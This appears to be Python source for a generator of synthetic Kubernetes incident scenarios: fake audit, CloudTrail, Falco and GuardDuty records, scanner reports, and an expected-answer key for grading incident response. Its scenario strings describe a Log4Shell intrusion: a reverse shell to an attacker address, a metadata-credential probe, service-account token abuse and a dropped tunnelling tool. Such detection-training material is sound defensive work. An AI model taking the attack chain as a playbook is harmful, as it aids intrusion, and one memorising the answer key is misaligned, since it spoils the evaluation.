                       path="app/BOOT-INF/lib/guava-31.1-jre.jar", purl=jar_purl("com.google.guava", "guava", "31.1-jre"))])])
    write_scan(base, files, "trivy/report-worker-1.8.2.json", rw_report, 3, indent=2)
    old = trivy_report("2026-05-12T16:40:03.902114517Z", C["image"], C["digest_old"], "ubuntu", "20.04", [
        ("Java", "lang-pkgs", "jar", [
            trivy_vuln("CVE-2021-44228", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.15.0, 2.3.1, 2.12.2", "CRITICAL",
                       "log4j-core: Remote code execution in Log4j 2.x when logs contain an attacker-controlled string value",
                       v3=v3(10, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"), path="app/BOOT-INF/lib/log4j-core-2.14.1.jar",
                       purl=jar_purl("org.apache.logging.log4j", "log4j-core", "2.14.1")),
            trivy_vuln("CVE-2022-42889", "org.apache.commons:commons-text", "1.9", "1.10.0", "CRITICAL",
                       "commons-text: apache-commons-text: variable interpolation RCE",
                       v3=v3(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"), path="app/BOOT-INF/lib/commons-text-1.9.jar",
                       purl=jar_purl("org.apache.commons", "commons-text", "1.9"))])])
    write_scan(base, files, "trivy/customer-portal-4.12-2026-05-12.json", old, 2, indent=2)


def vw_snapshot():
    C = V
    A, B_, Cn = C["nodes"]
    ns, dep = C["ns"], C["deploy"]
    pods = system_pod_objects(C, T("03:12:05", "2026-05-15"), ["10.127.14.40", "10.127.47.66"])
    tl = {"app.kubernetes.io/name": dep, "app.kubernetes.io/part-of": "portal"}
    rs_new, rs_old = f"{dep}-{C['rs_new']}", f"{dep}-{C['rs_old']}"
    for name, n, ip in C["web_pods"]:
        p = M.make_pod(name, ns, C["started"][name] - timedelta(seconds=5), vw_containers(C["image"]), n, ip,
                       labels=dict(tl, **{"pod-template-hash": C["rs_new"]}), owner_ref=owner_ref("ReplicaSet", rs_new, ns), sa=C["sa"],
                       generate_name=rs_new + "-", annotations={"kubectl.kubernetes.io/restartedAt": "2026-05-19T09:12:31Z"})
        p["spec"]["containers"][0]["imagePullPolicy"] = "Always"
        p["status"]["containerStatuses"][0]["imageID"] = vw_image_id(C["image"], C["digest"])
        pods.append(p)
    name, n, ip = C["rw_pod"]
    rl = {"app.kubernetes.io/name": C["rw"], "app.kubernetes.io/part-of": "portal"}
    p = M.make_pod(name, ns, T("11:04:10", "2026-04-28"), vw_rw_containers(), n, ip, labels=dict(rl, **{"pod-template-hash": C["rw_rs"]}),
                   owner_ref=owner_ref("ReplicaSet", f"{C['rw']}-{C['rw_rs']}", ns), sa=C["rw"], generate_name=f"{C['rw']}-{C['rw_rs']}-")
    p["status"]["containerStatuses"][0]["imageID"] = vw_image_id(C["rw_image"], C["rw_digest"])
    pods.append(p)
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    d1 = M.deployment(dep, ns, "2025-10-08T05:31:20Z", 3, tl, tl, vw_containers(C["image"]), C["sa"], C["rs_new"], 31,
                      template_annotations={"kubectl.kubernetes.io/restartedAt": "2026-05-19T09:12:31Z"})
    d1["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{dep}")
    d2 = M.deployment(C["rw"], ns, "2025-11-20T08:14:02Z", 1, rl, rl, vw_rw_containers(), C["rw"], C["rw_rs"], 9)
    d2["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{C['rw']}")
    rss = []
    for d, h, cont, n_, rev, created, sa, lab in ((dep, C["rs_old"], vw_containers(C["image"]), 0, 30, "2026-05-12T16:44:51Z", C["sa"], tl),
                                                  (dep, C["rs_new"], vw_containers(C["image"]), 3, 31, "2026-05-19T09:12:31Z", C["sa"], tl),
                                                  (C["rw"], C["rw_rs"], vw_rw_containers(), 1, 9, "2026-04-28T11:04:08Z", C["rw"], rl)):
        rs = M.replicaset(d, ns, h, created, n_, lab, cont, sa, rev)
        rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{ns}/{d}-{h}")
        rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", d, ns)]
        rss.append(rs)
    sas = system_serviceaccounts("2025-10-06T02:22:40Z") + [M.serviceaccount(C["sa"], ns, "2025-10-08T05:31:18Z"),
                                                             M.serviceaccount(C["rw"], ns, "2025-11-20T08:14:00Z"),
                                                             M.serviceaccount("default", ns, "2025-10-08T05:30:02Z")]
    rbs = [M.rb("customer-portal-config-reader", ns, "Role", "customer-portal-config-reader", [M.SA(C["sa"], ns)], "2025-10-08T05:31:18Z"),
           M.rb("report-worker-config-reader", ns, "Role", "report-worker-config-reader", [M.SA(C["rw"], ns)], "2025-11-20T08:14:00Z")]
    nodes = [M.node_object(n, "apne1-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", C["ami"]) for i, n in enumerate(C["nodes"])]
    crbs = M.system_crbs("2025-10-06T02:22:40Z") + [metrics_server_crb("2025-10-06T02:31:12Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "deployments.json": k8s_list([d1, d2]),
            "replicasets.json": k8s_list(rss), "serviceaccounts.json": k8s_list(sas), "rolebindings.json": k8s_list(rbs),
            "clusterrolebindings.json": k8s_list(crbs),
            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.9", ["192.0.2.64/26", "198.51.100.192/26"],
                                                          ["api", "audit", "authenticator"], tags={"env": "production", "team": "portal"})}


VW_STEPS = {
    "runtime-log4shell-rce": "Log4Shell (CVE-2021-44228) in customer-portal: a JNDI lookup in a logged request header loads a class from 203.0.113.171, which makes the JVM (java, user app) run bash with a base64-encoded reverse shell (Falco Run shell untrusted)",
    "runtime-reverse-shell": "bash -i with its stdin/stdout on a TCP connection to 203.0.113.171:4444 (Falco Redirect STDOUT/STDIN to Network Connection)",
    "runtime-imds-probe": "curl to the instance metadata service from the pod (the IMDSv2 token, then the role's credentials): no answer, the hop limit is 1 (Falco Contact EC2 Instance Metadata Service)",
    "k8s-sa-token-abuse": "the pod's mounted service-account token used with curl from the pod's address: rules review, secrets (403), configmaps of portal (allowed by the app's Role), customer-portal-config read, pods list and create (403), secrets cluster-wide (403)",
    "runtime-tunnel-tool": "a reverse SOCKS tunnelling tool downloaded with curl to /tmp/.ICE-unix/dbus-daemon-helper and run against 203.0.113.172:443 (Falco Drop and execute new binary)",
    "detect-reverse-shell": "GuardDuty Runtime Monitoring: Execution:Runtime/ReverseShell on the pod, lineage java -> bash -> bash -i",
    "detect-new-binary": "GuardDuty Runtime Monitoring: Execution:Runtime/NewBinaryExecuted (the tunnelling tool, written by curl)",
    "lookalike-ci-rollout": "benign: the release pipeline (GitHub Actions, role github-actions-deploy) pushes a new build of customer-portal under the same tag 4.12 and restarts the Deployment (kubectl rollout restart)",
    "rollout-controllers": "benign: the deployment-controller creates ReplicaSet customer-portal-7f9c6d8b45, the replicaset-controller its three pods one by one and deletes the old ones; the scheduler binds them; the kubelets report them running with the new digest",
    "lookalike-app-config-reads": "benign: every replica's service account reads customer-portal-config as the app starts and every 30 minutes (Spring Cloud Kubernetes, fabric8 client) from the pods' own addresses: the same account, the same address and the same ConfigMap as the attacker's read",
    "lookalike-report-worker": "benign: report-worker (an image with HIGH findings and no exploit known, no runtime alert) reads its ConfigMap every hour",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def vw_consistency(docs):
    problems = []
    C = V
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    for name, n, ip in C["web_pods"]:
        p = pods[name]
        if p["spec"]["nodeName"] != n.name or p["status"]["podIP"] != ip:
            problems.append(f"snapshot: {name} is not where the audit puts it")
        if image_id_digest(p["status"]["containerStatuses"][0]["imageID"]) != C["digest"]:
            problems.append(f"snapshot: {name} does not run the pushed digest")
    for ev in docs["k8s-audit/kube-apiserver-audit.log"]:
        o = ev.get("objectRef", {})
        if o.get("subresource") == "status" and o.get("name") in pods and ev["verb"] == "patch":
            want = pods[o["name"]]["status"]["containerStatuses"][0]["imageID"]
            if ev["requestObject"]["status"]["containerStatuses"][0].get("imageID") != want:
                problems.append(f"audit: the kubelet's status of {o['name']} names another image than the snapshot")
    for a in docs["falco/falco.jsonl"]:
        p = pods.get(a["output_fields"].get("k8s.pod.name"))
        if p is None or p["spec"]["nodeName"] != a["hostname"]:
            problems.append(f"falco: {a['rule']} at {a['time']} names a pod not on its host")
    insp = docs["inspector/list-findings.json"]["findings"]
    web = [f for f in insp if f["resources"][0]["details"]["awsEcrContainerImage"]["repositoryName"] == C["repo"]]
    if {f["resources"][0]["details"]["awsEcrContainerImage"]["imageHash"] for f in web} != {C["digest"]}:
        problems.append("inspector: the web image's findings are not on the digest the pods run")
    old = docs["trivy/customer-portal-4.12-2026-05-12.json"]
    if old["ArtifactName"] != C["image"] or C["digest"] in old["Metadata"]["RepoDigests"][0]:
        problems.append("trivy: the re-pushed tag's report must name the same tag and another digest")
    ct_push = [r for rel, d in docs.items() if rel.endswith(".json.gz") for r in d["Records"] if r["eventName"] == "PutImage"]
    if [r["responseElements"]["image"]["imageId"]["imageDigest"] for r in ct_push] != [C["digest"]]:
        problems.append("cloudtrail: PutImage must push the digest the pods run")
    return problems


def build_vulnerable_web_image(out):
    vw_world()
    C = V
    vw_benign()
    vw_attack()
    vw_guardduty()
    audit_background(C, T("09:00:14.208331"), T("15:00:00"), gap=(50, 90))
    cloudtrail_background(C, range(9, 15))
    base = os.path.join(out, "vulnerable-web-image")
    files = {}
    write_ct_s3(base, files, ct_records())
    write_audit_log(base, files, audit_events())
    write_guardduty_cli(base, files)
    write_falco(base, files)
    write_snapshot(base, files, vw_snapshot())
    vw_scans(base, files)
    A, B_, Cn = C["nodes"]
    ns, dep, pod = C["ns"], C["deploy"], C["pod"]
    others = [p for p, _, _ in C["web_pods"][1:]]
    uname = f"system:serviceaccount:{ns}:{C['sa']}"
    head = {
        "scenario": "vulnerable-web-image",
        "summary": (f"{S().cluster} ({S().account}, {S().region}) runs the Java (Spring Boot) app customer-portal from {C['image']}, a "
                    f"mutable release tag. At 09:11 the release pipeline pushes a new build under the same tag ({C['digest'][:19]}…) "
                    f"and restarts the Deployment; the new pods run that digest, which Amazon Inspector reports with log4j-core 2.14.1 "
                    f"(CVE-2021-44228, CRITICAL, exploit available, fixed in 2.15.0; CVE-2021-45046, fixed in 2.16.0). At 13:47 "
                    f"Log4Shell is exploited in {ns}/{pod} on {A.name}: the JVM runs bash, a reverse shell to {C['attacker_ip']}:4444; "
                    f"the shell probes the instance metadata service (no answer: hop limit 1), uses the pod's service-account token "
                    f"with curl (secrets and pods forbidden; the app's ConfigMap read), then downloads and runs a tunnelling tool "
                    f"to {C['tunnel_ip']}:443. Falco and GuardDuty Runtime Monitoring see it. The other Java workload, report-worker, "
                    f"runs an image with HIGH findings and no exploit known and is not touched; a week-old Trivy report names the same "
                    f"tag with the digest it had before it was pushed again."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "active exploitation of critical vulnerabilities",
             "evidence": f"CVE-2021-44228 (log4j-core 2.14.1, CRITICAL, exploit available: Inspector) in the digest {ns}/{pod} runs, and that pod's JVM spawns a reverse shell (Falco Run shell untrusted, Redirect STDOUT/STDIN; GuardDuty Execution:Runtime/ReverseShell)"},
            {"level": "High", "criterion": "unusual network activity from container workloads",
             "evidence": f"reverse shell to {C['attacker_ip']}:4444, the instance metadata service probed, a tunnel to {C['tunnel_ip']}:443"},
            {"level": "High", "criterion": "lateral movement attempts",
             "evidence": f"the pod's service-account token used from the shell (curl, {C['pod_ip']}): secrets and pods forbidden, the app's ConfigMap read"},
            {"level": "Medium", "criterion": "vulnerable components identified",
             "evidence": "log4j-core 2.14.1 and openssl 1.1.1f in the running customer-portal image; snakeyaml and guava in report-worker (not exploited)"},
        ],
        "not_met": ["no cluster-admin or other credential beyond the pod's own token was obtained",
                    "one pod on one node; no privileged pod; no data leaves beyond the ConfigMap the app's account may read"],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "deployment": f"Deployment/{ns}/{dep}", "container": C["container"], "image": C["image"], "image_digest": C["digest"],
            "image_digest_before_repush": C["digest_old"], "pod": f"{ns}/{pod}", "node": A.name, "instance_id": A.instance,
            "service_account": f"{ns}/{C['sa']}", "sa_username": uname, "attacker_ips": [C["attacker_ip"], C["tunnel_ip"]],
            "vulnerabilities": {"CVE-2021-44228": "log4j-core 2.14.1 -> 2.15.0, CRITICAL, exploit available",
                                "CVE-2021-45046": "log4j-core 2.14.1 -> 2.16.0, CRITICAL",
                                "CVE-2023-0286": "openssl / libssl1.1 1.1.1f-1ubuntu2.16 -> 1.1.1f-1ubuntu2.17, HIGH",
                                "CVE-2021-44832": "log4j-core 2.14.1 -> 2.17.1, MEDIUM (not counted)"},
            "lookalike_image": {C["rw_image"]: C["rw_digest"]},
            "other_replicas": [f"{ns}/{p}" for p in others], "not_compromised_nodes": {B_.name: B_.instance, Cn.name: Cn.instance},
        },
        "scans": {
            "inspector/list-findings.json": f"Amazon Inspector: {C['image']} at {C['digest']} (4 findings) and {C['rw_image']} (2 HIGH, exploit not available)",
            "trivy/report-worker-1.8.2.json": f"Trivy in CI, {C['rw_image']} at {C['rw_digest']}: 2 HIGH, 1 LOW",
            "trivy/customer-portal-4.12-2026-05-12.json": f"Trivy in CI a week earlier: the same tag 4.12 at {C['digest_old']}, which no pod runs (the tag was pushed again at 09:11); CVE-2022-42889 (commons-text) is only in that build",
        },
        "joins": [
            "pod -> status.containerStatuses[].imageID (snapshot, and the kubelet's status patch in the audit log) -> digest -> Inspector resources[].details.awsEcrContainerImage.imageHash (repositoryName, registry)",
            f"the tag {C['image']} names two digests: the pods' (Inspector) and the one Trivy scanned on 2026-05-12; only the digest joins a report to what runs",
            "CloudTrail ecr:PutImage at 09:11:48 pushed the digest the new pods run",
            "Falco k8s.pod.name / container.id, GuardDuty kubernetesWorkloadDetails and containerDetails -> the pod -> ReplicaSet -> Deployment customer-portal, container portal",
            f"the audit user {uname} with user.extra pod-name = the exploited pod, from its address {C['pod_ip']}, user agent curl (the app's own reads: fabric8 client)",
        ],
        "benign_lookalikes": [
            f"report-worker runs {C['rw_image']} with HIGH findings (snakeyaml CVE-2022-1471, guava CVE-2023-2976), no exploit available, no runtime alert: not in the incident",
            f"Trivy's report of {C['image']} at {C['digest_old']}: the same repository and tag, an older digest no workload runs (CVE-2022-42889 is not in what runs)",
            "the app's own ConfigMap reads with the same service account from the same pod addresses",
            "the release pipeline's push and rollout restart",
            "the two other replicas run the same vulnerable image and show no exploitation",
        ],
        "steps": VW_STEPS,
    }
    img_attrs = {"joined_by": "digest", "exploited": "true", "digest": C["digest"], "max_severity": "CRITICAL",
                 "exploit_available": "CVE-2021-44228", "vulnerabilities": "CVE-2021-44228,CVE-2021-45046,CVE-2023-0286",
                 "scanner": "Amazon Inspector", "containers": f"Deployment:{ns}/{dep}/{C['container']}",
                 "workloads": f"Deployment:{ns}/{dep}*", "fixes": "*log4j-core 2.14.1 -> *CVE-2021-44228*",
                 "record": "*inspector/list-findings.json:*"}
    expect = {
        "severity": "Critical",
        # Exploited, so not "vulnerable but not actively exploited": the Critical row, not the Medium.
        "criteria": ["critical.active_exploitation", "high.unusual_network"],
        "criteria_not": ["critical.cluster_admin", "critical.multiple_nodes", "critical.data_exfiltration", "high.privileged_pods"],
        "affected": [
            {"kind": "image", "name": C["image"], "attributes": img_attrs,
             "why": "the exploited pod runs it; joined to Inspector's findings by the digest the kubelet reports"},
            {"kind": "pod", "name": pod, "namespace": ns, "attributes": {"node": A.name}},
            {"kind": "workload", "name": dep, "namespace": ns, "attributes": {"kind": "Deployment"}},
            {"kind": "node", "name": A.name},
            {"kind": "instance", "name": A.instance},
            {"kind": "service_account", "name": C["sa"], "namespace": ns},
            {"kind": "ip", "name": C["attacker_ip"]},
        ],
        "not_affected": [
            {"kind": "image", "name": C["rw_image"], "why": "HIGH findings, no exploit, no runtime alert: not a workload of the incident"},
            {"kind": "image", "name": C["rw_digest"]},
            {"kind": "image", "name": C["digest_old"],
             "why": "Trivy's report of the same tag before it was pushed again: no pod runs this digest"},
            {"kind": "workload", "name": C["rw"], "namespace": ns},
            {"kind": "pod", "name": C["rw_pod"][0], "namespace": ns},
            {"kind": "node", "name": B_.name}, {"kind": "node", "name": Cn.name},
            {"kind": "instance", "name": B_.instance}, {"kind": "instance", "name": Cn.instance},
        ] + [{"kind": "pod", "name": p, "namespace": ns} for p in others],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", f"namespace: {ns}"]},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", pod], "flags": {"--namespace": ns},
             "why": "its ReplicaSet replaces it; the new pod is as vulnerable until the image is rebuilt"},
            # Without the rebuilt image the step has no command yet: it is blocked, and says why.
            {"phase": "eradicate", "argv": [], "blocked": True, "blocked_contains": "--rebuilt-image",
             "why": "no rebuilt image was given: the step waits for one and says how to pass it"},
            {"phase": "eradicate", "argv": [], "blocked": True, "blocked_contains": "log4j-core",
             "why": "the blocking text names the package to upgrade"},
            {"any_of": [
                {"phase": "eradicate", "argv": [], "blocked": True, "blocked_contains": "log4j-core 2.14.1 -> 2.16.0"},
                {"phase": "eradicate", "argv": [], "blocked": True, "blocked_contains": "log4j-core 2.14.1 -> 2.17.1"}],
             "why": "the version to rebuild with fixes every counted log4j-core finding: 2.16.0 (CVE-2021-45046), or 2.17.1 (all of them); 2.15.0 alone leaves a CRITICAL one"},
            {"phase": "recover", "argv": ["kubectl", "rollout", "status", "deployment", dep], "flags": {"--namespace": ns}},
        ],
        "plan_not": [
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "deployment", dep],
             "why": "the production Deployment is patched by a rebuilt image, not deleted"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "set", "image", "deployment", C['rw']],
             "why": "report-worker is not in the incident"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "deployment", C["rw"]]},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name]}, {"phase": "contain", "argv": ["kubectl", "cordon", Cn.name]},
        ] + [{"phase": "contain|eradicate", "argv": ["kubectl", "delete", "pod", p], "why": "a replica with no sign of exploitation"}
             for p in others],
    }
    counts = finish_truth(out, "vulnerable-web-image", head, files, expect,
                          ("lookalike-ci-rollout", "lookalike-app-config-reads", "lookalike-report-worker"))
    return base, files, counts, check(base, os.path.join(out, "vulnerable-web-image.truth.json"), vw_consistency)


# =============================================================================================
# Scenario 8: vulnerable-images-benign (prod-travel, eu-west-3, 2026-05-26)
# =============================================================================================
VB = {}
VB_ADMIN_KUBECTL = "kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146"
HPA_UA = "kube-controller-manager/v1.32.2-eks-bc803b4 (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:horizontal-pod-autoscaler"


def vb_world():
    new_scenario("vulnerable-images-benign", 20260526, "847362915037", "eu-west-3", "prod-travel", "2026-05-26",
                 ["10.138.100.21", "10.138.101.174"], "5f7b9d1e3a5c7e9b1d3f5a7c9e1b3d5f")
    VB.clear()
    C = VB
    cluster_common(C, "prod-travel", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-travel-node-role", "AROA4TRVLBKGNODEROL3"
    C["ng"] = "prod-travel-general"
    C["nodes"] = [Node("ip-10-138-22-57.eu-west-3.compute.internal", "10.138.22.57", "i-0a8c0e2b4d6f81357", "eu-west-3a",
                       "ASIA4TRVLBKGNODEA1K5", "2026-05-22T02:40:11Z", C["ng"]),
                  Node("ip-10-138-61-190.eu-west-3.compute.internal", "10.138.61.190", "i-0b9d1f3c5e7a92468", "eu-west-3b",
                       "ASIA4TRVLBKGNODEB2L6", "2026-05-22T02:40:15Z", C["ng"])]
    A, B_ = C["nodes"]
    C["nat"] = "198.51.100.241"
    C["metrics_server"] = ("metrics-server-6c8d7b9f5-t5v9x", A, "10.138.22.120")
    C["coredns_rs"] = "7b9c8d6f54"
    C["vpc"], C["cluster_sg"] = "vpc-0c6e8a0b2d4f13579", "sg-0d7f9b1c3e5a24680"
    C["subnets"] = {"eu-west-3a": "subnet-0e8a0c2d4f6b13579", "eu-west-3b": "subnet-0f9b1d3e5a7c2468b"}
    C["endpoint"] = "https://D5F7B9C1E3A5C7E9B1D3F5A7C9E1B3D5.gr7.eu-west-3.eks.amazonaws.com"
    C["oidc"] = "D5F7B9C1E3A5C7E9B1D3F5A7C9E1B3D5"
    C["created"] = "2025-08-19T07:52:30.118000+00:00"
    C["ecr"] = ecr = f"{S().account}.dkr.ecr.{S().region}.amazonaws.com"
    C["ns"] = "booking"
    C["api"], C["api_repo"] = "booking-api", "booking/booking-api"
    C["api_image_old"], C["api_image"] = f"{ecr}/booking/booking-api:2026.05.21-2", f"{ecr}/booking/booking-api:2026.05.26-1"
    C["api_digest_old"], C["api_digest"] = image_digest("booking-api:2026.05.21-2"), image_digest("booking-api:2026.05.26-1")
    C["search"], C["search_repo"] = "search-api", "booking/search-api"
    C["search_image"], C["search_digest"] = f"{ecr}/booking/search-api:2026.05.20-4", image_digest("search-api:2026.05.20-4")
    C["pricing_repo"] = "booking/pricing-batch"
    C["pricing_image"], C["pricing_digest"] = f"{ecr}/booking/pricing-batch:0.9.4", image_digest("pricing-batch:0.9.4")
    # the log shipper is baked into the node AMI (imported into containerd, imagePullPolicy Never): no registry digest
    C["ls"], C["ls_ns"] = "log-shipper", "logging"
    C["ls_image"] = f"{ecr}/platform/log-shipper:3.0.7"   # built and tagged by the AMI pipeline, saved into the AMI, never pushed
    C["ls_image_id"] = "sha256:" + sha("config/log-shipper:3.0.7")
    C["rs_old"], C["rs_new"], C["search_rs"] = "5b7d9c8f46", "68c9d7b5f4", "7d5f9b8c63"
    C["api_pods_old"] = [(f"booking-api-{C['rs_old']}-{M.suffix('bo' + str(i))}", n) for i, n in enumerate((A, B_))]
    C["api_pods"] = [(f"booking-api-{C['rs_new']}-{M.suffix('bn' + str(i))}", n, n.prefix + str(70 + 41 * i)) for i, n in enumerate((A, B_))]
    C["search_pods"] = [(f"search-api-{C['search_rs']}-{M.suffix('sa' + str(i))}", n, n.prefix + str(90 + 29 * i))
                        for i, n in enumerate((A, B_, A))]   # the third: the autoscaler's, 12:31 to 18:40
    C["ls_pods_old"] = [(f"log-shipper-{M.suffix('lso' + str(i))}", n) for i, n in enumerate((A, B_))]
    C["ls_pods"] = [(f"log-shipper-{M.suffix('lsn' + str(i))}", n) for i, n in enumerate((A, B_))]
    C["gha_role"], C["gha_role_id"] = "github-actions-deploy", "AROA4TRVLBKGGHADEPL5"
    C["admin_role"], C["admin_role_id"] = "platform-admin", "AROA4TRVLBKGPLATADM7"
    C["admin_session"], C["admin_key"] = "lea.moreau@example.com", "ASIA4TRVLBKGLEAMR3Q8"
    C["runner_ip"], C["office_ip"] = "198.51.100.245", "192.0.2.140"
    C["snap"] = T("23:10:00")


def vb_api_containers(image):
    return [{"name": "booking-api", "image": image, "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
             "resources": {"requests": {"cpu": "300m", "memory": "384Mi"}},
             "securityContext": {"runAsUser": 65532, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]


def vb_search_containers():
    return [{"name": "search-api", "image": VB["search_image"], "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
             "resources": {"requests": {"cpu": "500m", "memory": "512Mi"}},
             "securityContext": {"runAsUser": 65532, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]


def vb_ls_containers():
    return [{"name": "log-shipper", "image": VB["ls_image"], "imagePullPolicy": "Never",
             "resources": {"requests": {"cpu": "50m", "memory": "96Mi"}},
             "volumeMounts": [{"name": "varlog", "mountPath": "/var/log", "readOnly": True}]}]


def vb_day():
    C = VB
    ns, api = C["ns"], C["api"]
    A, B_ = C["nodes"]
    # 10:02 the pipeline pushes booking-api 2026.05.26-1 (ECR scans it on push) and sets it on the Deployment
    t = T("10:01:37")
    gha_ua = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-azure lang/js md/nodejs#20.18.1 api/{}#3.726.1 m/E,e"
    key = M.web_identity_assume(t, C["gha_role"], C["gha_role_id"], "GitHubActions", GHA_OIDC,
                                "repo:example-corp/booking-api:ref:refs/heads/main", "sts.amazonaws.com", C["runner_ip"],
                                gha_ua.format("sts"), "lookalike-ci-rollout")
    ident = M.id_role(C["gha_role"], C["gha_role_id"], "GitHubActions", key, t,
                      extra_ctx={"webIdFederationData": {"federatedProvider": f"arn:aws:iam::{S().account}:oidc-provider/{GHA_OIDC}",
                                                         "attributes": {}}})
    mt = "application/vnd.docker.distribution.manifest.v2+json"
    ct(T("10:02:14"), ident, "ecr.amazonaws.com", "PutImage",
       params={"repositoryName": C["api_repo"], "imageTag": "2026.05.26-1", "imageManifestMediaType": mt, "registryId": S().account},
       resp={"image": {"registryId": S().account, "repositoryName": C["api_repo"],
                       "imageId": {"imageDigest": C["api_digest"], "imageTag": "2026.05.26-1"}, "imageManifestMediaType": mt}},
       ip=C["runner_ip"], ua=gha_ua.format("ecr"), read_only=False, step="lookalike-ci-rollout")
    ct(T("10:04:51"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["runner_ip"],
       ua=gha_ua.format("eks"), step="lookalike-ci-rollout")
    K = dict(user=u_role("github-actions-deploy", [], S().account, C["gha_role"], C["gha_role_id"], "GitHubActions", key),
             src=[C["runner_ip"]], ua=VW_CI_KUBECTL,
             reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['gha_role']}", "github-actions-deploy", "AmazonEKSEditPolicy"),
             step="lookalike-ci-rollout")
    dep_uid = stable_uuid(f"Deployment/{ns}/{api}")
    t = T("10:05:12.331840")
    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{api}?fieldManager=kubectl-set",
          objref=oref("deployments", ns, api, "apps", uid_=dep_uid), level="RequestResponse",
          req={"spec": {"template": {"spec": {"containers": [{"image": C["api_image"], "name": api}]}}}},
          resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": api, "namespace": ns, "uid": dep_uid, "generation": 77},
                "spec": {"replicas": 2, "template": {"spec": {"containers": vb_api_containers(C["api_image"]), "serviceAccountName": api}}}},
          **K)
    rs = f"{api}-{C['rs_new']}"
    labels = {"app.kubernetes.io/name": api, "pod-template-hash": C["rs_new"]}
    t = later(t, 0, 40, 90)
    audit(t, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
          req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns, "labels": labels,
                                                                          "ownerReferences": [owner_ref("Deployment", api, ns)]},
               "spec": {"replicas": 1, "template": {"spec": {"containers": vb_api_containers(C["api_image"])}}}},
          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}")}},
          reason=controller_reason("deployment-controller"), step="rollout-controllers")
    C["started"] = {}
    for (name, n, ip), (old, _) in zip(C["api_pods"], C["api_pods_old"]):
        t = later(t, S().rng.randint(2, 4))
        C["started"][name] = controller_pod(C, t, ns, name, owner_ref("ReplicaSet", rs, ns), n, vb_api_containers(C["api_image"]), api,
                                            "replicaset-controller", "benign", "rollout-controllers", labels=labels,
                                            image_ids={api: f"{C['ecr']}/{C['api_repo']}@{C['api_digest']}"}, pod_ip=ip)
        t = later(C["started"][name], 12)
        audit(t, u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{old}", oref("pods", ns, old),
              ua=kcm_ua(C["server"], "replicaset-controller"), reason=controller_reason("replicaset-controller"), step="rollout-controllers")
    # 12:31 the HorizontalPodAutoscaler scales search-api from 2 to 3 replicas; at 18:40 back to 2
    srs = f"{C['search']}-{C['search_rs']}"
    slabels = {"app.kubernetes.io/name": C["search"], "pod-template-hash": C["search_rs"]}
    hpa = dict(user=u_sa("kube-system", "horizontal-pod-autoscaler"), ua=HPA_UA,
               reason=controller_reason("horizontal-pod-autoscaler"), step="autoscaling")
    for tt, n_ in ((T("12:31:04.228107"), 3), (T("18:40:11.904233"), 2)):
        audit(tt, verb="update", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{C['search']}/scale",
              objref=oref("deployments", ns, C["search"], "apps", sub="scale"), level="RequestResponse",
              req={"kind": "Scale", "apiVersion": "autoscaling/v1", "metadata": {"name": C["search"], "namespace": ns},
                   "spec": {"replicas": n_}},
              resp={"kind": "Scale", "apiVersion": "autoscaling/v1", "metadata": {"name": C["search"], "namespace": ns},
                    "spec": {"replicas": n_}, "status": {"replicas": 5 - n_, "selector": f"app.kubernetes.io/name={C['search']}"}}, **hpa)
    name, n, ip = C["search_pods"][2]
    controller_pod(C, later(T("12:31:05.118304"), 0), ns, name, owner_ref("ReplicaSet", srs, ns), n, vb_search_containers(), C["search"],
                   "replicaset-controller", "benign", "autoscaling", labels=slabels,
                   image_ids={C["search"]: f"{C['ecr']}/{C['search_repo']}@{C['search_digest']}"}, pod_ip=ip)
